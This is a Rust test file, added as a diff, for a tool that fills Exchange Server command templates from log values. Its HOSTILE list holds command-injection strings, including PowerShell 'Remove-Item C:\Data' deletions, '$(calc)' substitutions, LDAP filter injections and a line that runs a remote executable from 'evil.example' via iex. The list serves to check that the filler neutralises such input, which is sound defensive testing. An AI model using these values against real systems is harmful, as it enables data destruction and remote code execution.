@@ -1,0 +1,135 @@
+//! Commands of the catalog, filled with what a log may hold.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]
+
+use setup_readiness::catalog::Catalog;
+use setup_readiness::catalog::entry::Entry;
+use setup_readiness::facts::form::Form;
+use setup_readiness::report::commands::{COMMON, commands, form};
+use setup_readiness::report::shell::{Piece, pieces};
+
+#[path = "../fuzz/commands.rs"]
+mod filled;
+
+/// What somebody may have got into a log to have it run.
+const HOSTILE: &[&str] = &[
+    "EX1 (Remove-Item C:\\Data -Recurse -Force)",
+    "EX1; Remove-Item C:\\Data",
+    "EX1'; Remove-Item C:\\Data; '",
+    "EX1\u{2019}; Remove-Item C:\\Data; \u{2018}",
+    "EX1\u{201b}\u{201b}\u{201b}; calc",
+    "EX1\u{201d}; calc; \u{201c}",
+    "EX1$(calc)",
+    "$(calc)",
+    "${env:TEMP}",
+    "EX1`\"; calc",
+    "EX1 | calc",
+    "EX1 & calc",
+    "EX1\" & calc & \"",
+    "EX1&&calc",
+    "%COMSPEC%",
+    "^&calc",
+    "!COMSPEC!",
+    "EX1 > C:\\Windows\\x",
+    "@{a=1}",
+    "{calc}",
+    "[calc]::x()",
+    "EX1\ncalc",
+    "EX1\rcalc",
+    "EX1\u{2028}calc",
+    "EX1\0calc",
+    "EX1\u{202e}clac",
+    "-Credential x",
+    "/Roles:Mailbox",
+    "--x",
+    "CN=x'; calc,DC=contoso,DC=com",
+    "CN=x\u{2019};calc,DC=contoso,DC=com",
+    "CN=$(calc),DC=contoso,DC=com",
+    "CN=x\",DC=contoso & calc",
+    "C:\\Data'; calc; '",
+    "C:\\Data\\..\\..\\Windows",
+    "C:\\*",
+    "C:\\$(calc)",
+    "C:\\a & calc",
+    "\\\\evil.example\\share\\x.exe' | iex #",
+    "a)(cn=*",
+    "x))(|(cn=*",
+    "1; calc",
+    "1 -or 1=1",
+    "CONTOSO\\admin' -Confirm:$false; calc '",
+    "CONTOSO\\admin\" /add & calc & \"",
+    "admin@contoso.com; calc",
+    "#",
+    "",
+    " ",
+    "<x>",
+];
+
+/// What a log does hold, and the least number of commands that take it.
+const USUAL: &[(&str, usize)] = &[
+    ("EX1", 30),
+    ("ex1.contoso.com", 30),
+    ("CONTOSO\\admin", 12),
+    ("CONTOSO\\O'Brien", 12),
+    ("CN=Exchange Servers,OU=Microsoft Exchange Security Groups,DC=contoso,DC=com", 8),
+    ("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\", 15),
+    ("S-1-5-21-1-2-3-500", 1),
+    ("10.1.2.3", 2),
+    ("MSExchangeADTopology", 2),
+    ("1234", 3),
+];
+
+#[test]
+fn no_command_runs_what_a_log_says() {
+    for value in HOSTILE {
+        filled::fill_all(value);
+    }
+    // In the middle and at the end of a name that has the right form.
+    for (usual, _) in USUAL {
+        for at in [usual.len() / 2, usual.len()] {
+            for mark in
+                ['\'', '\u{2018}', '\u{2019}', '\u{201a}', '\u{201b}', '"', '\u{201c}', '`', '$', '%', '&', '|', ';', '(', '\\', '\n']
+            {
+                filled::fill_all(&format!("{}{mark}{}", &usual[..at], &usual[at..]));
+            }
+        }
+    }
+}
+
+#[test]
+fn names_of_the_right_form_are_filled_in() {
+    for (value, least) in USUAL {
+        let took = filled::fill_all(value);
+        assert!(took >= *least, "{value}: {took}");
+    }
+}
+
+#[test]
+fn every_placeholder_can_be_filled() {
+    for entry in Catalog::default().entries() {
+        let names = entry.values.iter().map(|(name, _)| *name).chain(COMMON.iter().map(|(name, _)| *name));
+        let values: Vec<(&str, String)> = names.map(|name| (name, usual(entry, name).to_owned())).collect();
+        for (template, command) in entry.commands.iter().zip(commands(entry, &values, &[])) {
+            for piece in pieces(template.text) {
+                if let Piece::Name(name) = piece
+                    && name != "license"
+                {
+                    assert!(!command.text.contains(&format!("<{}>", name.replace('_', " "))), "{}: {}", entry.id, command.text);
+                }
+            }
+        }
+    }
+}
+
+/// A value of the right form.
+fn usual(entry: &Entry, name: &str) -> &'static str {
+    match form(entry, name).expect("a declared value") {
+        Form::Address => "10.1.2.3",
+        Form::Dn => "CN=Exchange Servers,DC=contoso,DC=com",
+        Form::Guid => "1f05a927-89c0-4725-adca-4527114196a1",
+        Form::Path => "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\",
+        Form::Sid => "S-1-5-21-1-2-3-500",
+        Form::Number => "7",
+        Form::Version => "15.2.1118.7",
+        _ => "ex1",
+    }
+}
